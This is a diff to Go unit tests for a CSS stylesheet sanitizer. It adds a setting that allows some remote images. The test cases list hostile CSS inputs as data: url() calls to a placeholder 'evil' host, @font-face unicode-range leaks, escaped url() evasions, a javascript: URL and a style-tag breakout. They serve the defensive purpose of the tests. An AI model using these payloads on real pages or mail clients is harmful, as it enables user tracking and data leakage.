@@ -55,8 +55,8 @@ func TestSheetAttacks(t *testing.T) {
 		{"@font-face with unicode-range", `@font-face{font-family:leak;src:url(http://evil/a.woff);unicode-range:U+0061} p{font-family:leak}`, true,
 			"p{font-family: leak}", false},
 		{"@font-face local", `@font-face{font-family:x;src:local(Arial)}`, false, "", false},
-		{"url in a rule", `body{background:url(http://evil/bg.png)}`, true, "", false},
-		{"url keeps the colour", `body{background:#fff url(http://evil/bg.png) no-repeat}`, true, "body{background: #fff no-repeat}", false},
+		{"url in a rule", `body{background:url(http://evil/bg.png)}`, false, "", true},
+		{"url keeps the colour", `body{background:#fff url(http://evil/bg.png) no-repeat}`, false, "body{background: #fff no-repeat}", true},
 		{"url escaped", `p{background:u\72l(http://evil/a)}`, true, "", false},
 		{"url with escaped letters", `p{background:\75\72\6c(http://evil/a)}`, true, "", false},
 		{"url in another property", `ul{list-style-image:url(http://evil/l)} p{cursor:url(http://evil/c),auto}`, true, "", false},
@@ -225,7 +225,6 @@ func TestSheetSafe(t *testing.T) {
 		"@font-face{font-family: x}",
 		"@media (max-width:600px){@media all{p{color: red}}}",
 		`p{background: url(http://x/y)}`,
-		`p{background: #fff url("https://img.example/a.png") no-repeat}`,
 		`p{background: url("http://x/y"); color: red}</style><script>`,
 		`p{color: \72 ed}`,
 		"p{color: red /* */}",
@@ -235,14 +234,35 @@ func TestSheetSafe(t *testing.T) {
 		"p{color: var(--x)}",
 		"p{}",
 	}
-	for _, s := range kept {
-		if !sheetSafe(s) {
-			t.Errorf("sheetSafe(%q) = false, want true", s)
+	for _, remote := range []bool{false, true} {
+		for _, s := range kept {
+			if !sheetSafe(s, remote) {
+				t.Errorf("sheetSafe(%q, %v) = false, want true", s, remote)
+			}
+		}
+		for _, s := range dropped {
+			if sheetSafe(s, remote) {
+				t.Errorf("sheetSafe(%q, %v) = true, want false", s, remote)
+			}
 		}
 	}
-	for _, s := range dropped {
-		if sheetSafe(s) {
-			t.Errorf("sheetSafe(%q) = true, want false", s)
+	remoteOnly := []string{
+		`p{background: #fff url("https://img.example/a.png") no-repeat}`,
+	}
+	neverRemote := []string{
+		`@media (max-width:600px){p{background: url("https://img.example/a.png")}}`,
+		`a:hover{background: url("https://img.example/a.png")}`,
+		`p{background: url("https://img.example/a b.png")}`,
+		`p{background: url("javascript:alert(1)")}`,
+	}
+	for _, s := range remoteOnly {
+		if sheetSafe(s, false) || !sheetSafe(s, true) {
+			t.Errorf("sheetSafe(%q) = %v without and %v with remote content, want false and true", s, sheetSafe(s, false), sheetSafe(s, true))
+		}
+	}
+	for _, s := range neverRemote {
+		if sheetSafe(s, true) {
+			t.Errorf("sheetSafe(%q, true) = true, want false", s)
 		}
 	}
 }
